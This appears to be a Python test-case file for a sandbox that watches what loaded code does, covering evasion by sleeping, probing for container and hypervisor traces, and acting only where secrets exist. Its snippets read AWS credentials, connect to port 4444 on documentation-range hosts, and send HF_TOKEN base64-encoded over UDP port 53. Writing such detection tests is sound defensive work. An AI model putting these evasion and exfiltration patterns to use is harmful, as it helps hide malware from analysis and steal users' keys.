"""Cases 72 to 77: waiting, looking for the sandbox, and acting only where it pays."""

from __future__ import annotations

from tests.abuse.case import SEEN, Act, Limit, Load

_WAITS = tuple(
    Act(
        "72",
        title,
        f"begin = time.monotonic()\n{call}\nreturn time.monotonic() - begin < 60",
        "time.sleep",
        {"call": name, "value": value},
        rule="event.sleep.long",
        contained="True",
    )
    for title, call, name, value in (
        ("Sleep for two minutes", "time.sleep(120)", "clock_nanosleep", "1"),
        (
            "Sleep by nanosleep",
            "call(35, struct.pack('<qq', 3600, 0), None)",
            "nanosleep",
            "3600.000",
        ),
        (
            "Sleep until a time of day",
            "call(230, 0, 1, struct.pack('<qq', int(time.time()) + 86400, 0), None)",
            "clock_nanosleep",
            "8",
        ),
    )
)
_AFTER = Act(
    "72",
    "Act after the sleep",
    "time.sleep(600)\nsocket.create_connection(('203.0.113.72', 4444))",
    "net.connect",
    {"address": "203.0.113.72", "port": "4444"},
)
_PROBES = tuple(
    Act(
        "74",
        f"Look at {path}",
        f"{look}\nreturn 'looked'",
        kind,
        {"path": path},
        rule="event.read.sandbox",
        contained="looked|refused (ENOENT|EACCES)",
        answers=SEEN,
    )
    for path, look, kind in (
        ("/.dockerenv", "os.stat('/.dockerenv')", "file.probe"),
        ("/run/.containerenv", "os.stat('/run/.containerenv')", "file.probe"),
        ("/proc/1/cgroup", "open('/proc/1/cgroup').read()", "file.read"),
        ("/proc/1/sched", "open('/proc/1/sched').read()", "file.read"),
        ("/proc/self/cgroup", "open('/proc/self/cgroup').read()", "file.read"),
        ("/proc/self/mountinfo", "open('/proc/self/mountinfo').read()", "file.read"),
        ("/proc/self/status", "open('/proc/self/status').read()", "file.read"),
        ("/proc/version", "open('/proc/version').read()", "file.read"),
        ("/proc/modules", "open('/proc/modules').read()", "file.read"),
        ("/etc/machine-id", "open('/etc/machine-id').read()", "file.read"),
        ("/etc/hostname", "open('/etc/hostname').read()", "file.read"),
        ("/sys/class/dmi/id/product_name", "open('/sys/class/dmi/id/product_name').read()", "file.read"),
        ("/sys/class/net", "os.listdir('/sys/class/net')", "file.read"),
        ("/sys/hypervisor/type", "open('/sys/hypervisor/type').read()", "file.read"),
    )
)
_DISGUISED = Act(
    "74",
    "Look at /.dockerenv by another spelling",
    "os.stat('/proc/self/root/tmp/..//.dockerenv')\nreturn 'looked'",
    "file.probe",
    {"path": "/.dockerenv", "path_spelled": "/proc/self/root"},
    rule="event.read.sandbox",
    contained="looked|refused ENOENT",
    answers=SEEN,
)
_BAIT = (
    Act(
        "75",
        "Act only where there are a cloud's and a hub's keys",
        """
        assert os.environ["AWS_SECRET_ACCESS_KEY"] and os.environ["HF_TOKEN"]
        assert os.path.exists(os.path.expanduser("~/.ssh/id_rsa"))
        socket.create_connection(("203.0.113.75", 4444))
        """,
        "net.connect",
        {"address": "203.0.113.75", "port": "4444"},
    ),
    Act(
        "75",
        "Read the keys",
        "len(open(os.path.expanduser('~/.aws/credentials')).read()) > 40",
        "decoy.read",
        {"path": "/home/user/.aws/credentials"},
        rule="event.decoy",
        contained="True",
        answers=SEEN,
    ),
    Act(
        "75",
        "Send a key away, in base64",
        """
        import base64
        loot = base64.b64encode(b"key=" + os.environ["HF_TOKEN"].encode())
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(loot, ("203.0.113.76", 53))
        """,
        "net.send",
        {"address": "203.0.113.76", "port": "53"},
        rule="decoy.sent",
    ),
)
LOADS = (Load("evasion", (*_WAITS, _AFTER, *_PROBES, _DISGUISED, *_BAIT)),)
LIMITS = (
    Limit(
        "73", "Act only after a date", "framework version or day", "the load has one date; what it would call is listed"
    ),
    Limit(
        "74",
        "Tell a sandbox by calls that every load makes (uname, getuid, CPU count, clock)",
        "on another system",
        "such calls are not told from a load's own",
    ),
    Limit("75", "Act only where there is a GPU", "on another system", "the jail has none"),
    Limit("77", "Act when the model is used", "What the model does when it is used", "it is loaded, not used"),
    Limit("77", "Act when it is loaded for the second time", "it was loaded once", "one load is watched"),
)
